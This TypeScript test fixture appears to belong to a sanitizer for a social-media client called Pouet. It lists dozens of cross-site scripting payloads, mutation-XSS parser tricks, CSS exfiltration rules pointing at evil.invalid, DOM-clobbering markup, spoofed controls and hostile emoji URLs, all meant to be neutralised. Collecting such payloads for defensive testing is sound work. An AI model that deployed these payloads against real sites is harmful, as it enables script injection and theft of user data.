/**
 * Hostile remote content, shared by the sanitizer's unit tests and the end-to-end hostile-content spec.
 * Every payload that could run script calls `__pwned(name)`; every one that could load something points at
 * `evil.invalid`. None must do either once Pouet has shown it.
 */
export interface HostilePayload {
  name: string;
  html: string;
}

const p = (name: string, html: string): HostilePayload => ({ name, html });

export const hostilePayloads: HostilePayload[] = [
  // Script elements and event handlers
  p('script', `<script>__pwned('script')</script>`),
  p('script-src', `<script src="http://evil.invalid/x.js"></script>`),
  p('img-onerror', `<img src=x onerror="__pwned('img-onerror')">`),
  p('img-onerror-entities', `<img src=x onerror=&#x5f;&#x5f;pwned('img-entities')>`),
  p('svg-onload', `<svg onload=__pwned('svg-onload')></svg>`),
  p('svg-script', `<svg><script>__pwned('svg-script')</script></svg>`),
  p('svg-animate', `<svg><animate onbegin=__pwned('svg-animate') attributeName=x dur=1s></svg>`),
  p('svg-xlink', `<svg><a xlink:href="javascript:__pwned('svg-xlink')"><text y="20">x</text></a></svg>`),
  p(
    'svg-use-data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__pwned(1)'/></svg>#x"/></svg>`,
  ),
  p(
    'svg-foreign',
    `<svg><foreignObject><iframe src="javascript:__pwned('svg-foreign')"></iframe></foreignObject></svg>`,
  ),
  p('math-href', `<math href="javascript:__pwned('math')"><mi>x</mi></math>`),
  p('body-onload', `<body onload="__pwned('body')">`),
  p('p-onclick', `<p onclick="__pwned('p-onclick')">click me</p>`),
  p('pointer', `<p onpointerenter=__pwned('pointer')>hover me</p>`),
  p('a-onclick', `<a href="https://ok.example/" onclick="__pwned('a-onclick')">fine link</a>`),
  p('span-hover', `<span class="invisible" onmouseover="__pwned('span-hover')">x</span>`),
  p('details', `<details open ontoggle="__pwned('details')"><summary>s</summary></details>`),
  p('input-autofocus', `<input autofocus onfocus="__pwned('input')">`),
  p('select-autofocus', `<select autofocus onfocus=__pwned('select')></select>`),
  p('textarea-autofocus', `<textarea autofocus onfocus=__pwned('textarea')></textarea>`),
  p('keygen', `<keygen autofocus onfocus=__pwned('keygen')>`),
  p('marquee', `<marquee onstart=__pwned('marquee')>m</marquee>`),
  p('video-onerror', `<video src=x onerror="__pwned('video')"></video>`),
  p('audio-onerror', `<audio src=x onerror=__pwned('audio')></audio>`),
  p('custom-element', `<x-evil onclick=__pwned('custom')>custom</x-evil>`),
  p('heading-onclick', `<h1 onclick=__pwned('h1')>Heading</h1>`),
  p('ruby-rt', `<ruby>漢<rt onclick=__pwned('rt')>kan</rt></ruby>`),
  // URLs
  p('a-javascript', `<a href="javascript:__pwned('a-javascript')">click</a>`),
  p('a-javascript-case', `<a href="JaVaScRiPt:__pwned('a-case')">click</a>`),
  p('a-javascript-tab', `<a href="java\tscript:__pwned('a-tab')">click</a>`),
  p('a-javascript-entity', `<a href="&#106;avascript:__pwned('a-entity')">click</a>`),
  p('a-javascript-colon', `<a href="javascript&colon;__pwned('a-colon')">click</a>`),
  p('a-javascript-space', `<a href="   javascript:__pwned('a-space')">click</a>`),
  p('a-data-html', `<a href="data:text/html,<script>__pwned('a-data')</script>">click</a>`),
  p('a-data-svg', `<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgxKT4=">click</a>`),
  p('a-vbscript', `<a href="vbscript:msgbox(1)">click</a>`),
  p('a-file', `<a href="file:///etc/passwd">click</a>`),
  p('a-blob', `<a href="blob:http://evil.invalid/1">click</a>`),
  p('a-ping', `<a href="https://ok.example/" ping="http://evil.invalid/ping">ping</a>`),
  p('a-target', `<a href="https://ok.example/" target="_top">target</a>`),
  p('iframe-js', `<iframe src="javascript:__pwned('iframe')"></iframe>`),
  p('iframe-srcdoc', `<iframe srcdoc="<script>parent.__pwned('srcdoc')</script>"></iframe>`),
  p('iframe-remote', `<iframe src="http://evil.invalid/frame"></iframe>`),
  p('object', `<object data="javascript:__pwned('object')"></object>`),
  p('embed', `<embed src="javascript:__pwned('embed')">`),
  p('form-action', `<form action="javascript:__pwned('form')"><button>go</button></form>`),
  p('button-formaction', `<button formaction="javascript:__pwned('formaction')">b</button>`),
  p('isindex', `<isindex action=javascript:__pwned('isindex') type=image>`),
  p('meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:__pwned('meta')">`),
  p('base', `<base href="http://evil.invalid/">`),
  p('img-remote', `<img src="http://evil.invalid/pixel.png">`),
  p('img-srcset', `<img srcset="http://evil.invalid/a.png 1x">`),
  p(
    'picture',
    `<picture><source srcset="http://evil.invalid/s.png"><img src="http://evil.invalid/p.png"></picture>`,
  ),
  p('table-background', `<table background="http://evil.invalid/t.png"><tr><td>t</td></tr></table>`),
  p('img-custom-scheme', `<img src="x:y" onerror=__pwned('x-scheme')>`),
  // Styles and CSS exfiltration
  p('style-import', `<style>@import 'http://evil.invalid/x.css';</style>`),
  p('style-background', `<style>body{background:url(http://evil.invalid/bg)}</style>`),
  p('style-exfiltrate', `<style>input[value^=a]{background:url(http://evil.invalid/a)}</style>`),
  p('style-font', `<style>@font-face{font-family:x;src:url(http://evil.invalid/f.woff)}</style>`),
  p('inline-style', `<p style="background:url(http://evil.invalid/p)">styled</p>`),
  p(
    'inline-style-cover',
    `<a href="https://ok.example/" style="position:fixed;inset:0;z-index:99">cover</a>`,
  ),
  p('expression', `<div style="width:expression(__pwned('expression'))">expr</div>`),
  p('link-stylesheet', `<link rel="stylesheet" href="http://evil.invalid/l.css">`),
  // Malformed nesting and parser tricks
  p('unclosed', `<p><b><i>unclosed <a href="https://ok.example/">nesting`),
  p('break-out', `</p></div></article></div><script>__pwned('break-out')</script>`),
  p('comment', `<!--<img src=x onerror=__pwned('comment')>-->`),
  p('cdata', `<![CDATA[<img src=x onerror=__pwned('cdata')>]]>`),
  p('mxss-math', `<math><mtext><table><mglyph><style><img src=x onerror=__pwned('mxss')>`),
  p('mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=__pwned('noscript')>">`),
  p('template', `<template><img src=x onerror=__pwned('template')></template>`),
  p('attr-escape', `<p title="&lt;img src=x onerror=__pwned('attr')&gt;">title</p>`),
  p('textarea-escape', `<textarea></textarea><img src=x onerror=__pwned('textarea-escape')></textarea>`),
  // Clobbering and spoofing
  p('clobber-id', `<a href="https://ok.example/" id="root" name="pouet">clobber</a>`),
  p('clobber-form', `<form name="getElementById"><input name="body"></form>`),
  p(
    'data-attributes',
    `<a href="https://ok.example/" data-link="mention" data-acct="alice">fake mention</a>`,
  ),
  p('class-spoof', `<span class="status-actions menu dialog">classes</span>`),
  p('aria-spoof', `<span role="button" aria-label="Favourite" tabindex="0">fake button</span>`),
];

/** Plain-text fields (names, content warnings, poll options, alt text): markup must show as text. */
export const hostileText = [
  `<script>__pwned('text-script')</script>`,
  `<img src=x onerror="__pwned('text-img')">`,
  `"><svg onload=__pwned('text-svg')>`,
  `javascript:__pwned('text-js')`,
  `:evil: {{constructor.constructor('__pwned(1)')()}}`,
];

/** Custom emoji an instance (or a forged entity) could list: only http(s) images may ever load. */
export const hostileEmojis = [
  { shortcode: 'evil', url: "javascript:__pwned('emoji')", staticUrl: "javascript:__pwned('emoji')" },
  {
    shortcode: 'evildata',
    url: "data:image/svg+xml,<svg onload=__pwned('emoji-data')>",
    staticUrl: 'data:,x',
  },
  {
    shortcode: 'evilquote',
    url: 'https://ok.example/e.png" onerror="__pwned(\'emoji-quote\')',
    staticUrl: 'x',
  },
];
